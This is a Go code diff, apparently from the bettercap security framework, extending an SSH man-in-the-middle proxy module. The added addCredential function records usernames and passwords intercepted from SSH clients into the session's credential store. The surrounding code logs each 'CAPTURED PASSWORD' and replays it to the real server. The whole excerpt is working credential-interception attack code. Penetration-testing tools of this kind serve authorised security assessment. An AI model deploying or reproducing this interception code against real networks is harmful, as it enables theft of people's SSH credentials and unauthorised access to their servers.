@@ -7,9 +7,34 @@ import (
 	"sync"
 	"time"
 
+	"github.com/bettercap/bettercap/v2/session"
+
 	"golang.org/x/crypto/ssh"
 )
 
+// addCredential stores a password captured from a client in the session.
+func (mod *SSHProxy) addCredential(clientAddr, destAddr, user, password string) {
+	client, _, err := net.SplitHostPort(clientAddr)
+	if err != nil {
+		client = clientAddr
+	}
+
+	host, _, err := net.SplitHostPort(destAddr)
+	if err != nil {
+		host = destAddr
+	}
+
+	mod.Session.Credentials.Add(session.Credential{
+		Protocol: "ssh",
+		Module:   mod.Name(),
+		Client:   client,
+		Host:     host,
+		User:     user,
+		Type:     session.CredentialPassword,
+		Secret:   password,
+	})
+}
+
 // handleConnection performs the full SSH MITM:
 //  1. Accept an SSH handshake from the client (proxy acts as server)
 //  2. Determine the real destination (static config or NAT lookup)
@@ -64,6 +89,7 @@ func (mod *SSHProxy) handleConnection(tcpConn net.Conn) {
 		if pass, ok := serverConn.Permissions.Extensions["password"]; ok {
 			mod.Info("[%s] >>> CAPTURED PASSWORD: user=%s password=%s",
 				clientAddr, user, pass)
+			mod.addCredential(clientAddr, destAddr, user, pass)
 			upstreamConf.Auth = []ssh.AuthMethod{
 				ssh.Password(pass),
 			}